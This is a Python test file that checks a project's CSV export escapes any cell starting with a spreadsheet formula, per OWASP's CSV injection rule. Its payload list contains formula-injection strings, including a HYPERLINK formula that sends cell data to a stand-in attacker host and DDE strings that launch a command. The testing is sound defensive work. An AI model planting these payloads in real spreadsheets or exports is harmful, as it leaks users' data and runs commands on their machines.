"""CSV written for spreadsheets: no cell can start a formula (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from dataclasses import replace

import pytest

from hub.audit.listing import write_csv
from hub.core.decision import Decision, Outcome
from hub.ledger import Ledger
from hub.report.spreadsheet import FORMULA_STARTS, cell
from tests.audit.ledgers import outcome, write

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_start_is_escaped(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["eu:123", "new item", "'quoted", "a=b", " =1", "", "12"])
def test_ordinary_cells_are_unchanged(text):
    assert cell(text) == text


def test_none_is_an_empty_cell():
    assert cell(None) == ""


@pytest.mark.e2e
def test_hub_audit_list_csv_neutralises_sids_and_tags(ledger_url):
    led = Ledger(ledger_url)
    hostile = []
    for n, text in enumerate(PAYLOADS):
        o = outcome()
        hostile.append(replace(o, submission_id=f"{text}#{n}", tags=(text, "tlp:green")))
    hint = ("misp_event", "cyber", "EU")
    rejected = Outcome("@rejected", Decision.REJECTED, "=1+1 is not a field", "=rule", hint=hint)
    write(led, "2026-06-02", *hostile, rejected)
    led.close()
    env = {**os.environ, "HUB_LEDGER_URL": ledger_url}
    run = subprocess.run(
        [sys.executable, "-m", "hub", "audit", "list", "--format", "csv"],
        capture_output=True, env=env, timeout=60, check=True,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(run.stdout.decode(), newline="")))  # CR and LF inside cells kept
    assert len(rows) == 1 + len(PAYLOADS) + 1
    cells = [c for r in rows[1:] for c in r]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    sids = [r[1] for r in rows[1:]]
    assert sids == [f"'{text}#{n}" for n, text in enumerate(PAYLOADS)] + ["'@rejected"]
    assert rows[-1][8:10] == ["'=rule", "'=1+1 is not a field"]


def test_write_csv_escapes_tags_joined():
    out = io.StringIO()
    line = {"seq": 1, "tags": ["=cmd", "tlp:green"], "submission_id": "-1"}
    write_csv([{**dict.fromkeys(("decided_at", "day", "area", "kind", "direction", "decision", "rule", "reason",
              "originator", "source_id", "version", "content_hash", "hash")), **line}], out)  # fmt: skip
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["tags"], row["submission_id"]) == ("'=cmd tlp:green", "'-1")
